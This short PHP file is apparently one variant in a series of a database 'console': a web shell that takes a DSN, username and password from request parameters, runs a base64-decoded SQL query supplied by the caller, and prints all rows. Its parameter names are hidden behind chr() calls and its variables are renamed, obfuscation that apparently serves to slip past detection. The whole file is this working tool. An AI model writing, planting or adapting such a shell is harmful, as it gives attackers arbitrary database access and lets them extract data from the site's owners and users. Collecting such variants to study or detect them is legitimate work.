<?php
// The same console through PDO, its field names spelt with chr() and its variables renamed.
$_q = $_REQUEST;
$_a = $_q[chr(100)];            // "d": the DSN, mysql:host=...;dbname=...
$_b = $_q[chr(117)];            // "u"
$_c = $_q[chr(112)];            // "p"
try {
    $_o = new PDO($_a, $_b, $_c, [PDO::ATTR_ERRMODE => PDO::ERRMODE_EXCEPTION]);
    $_s = $_o->query(base64_decode($_q[chr(115)]));
    foreach ($_s->fetchAll(PDO::FETCH_NUM) as $_r) {
        echo join("\t", $_r), "\n";
    }
} catch (Exception $_e) {
    echo $_e->getMessage();
}
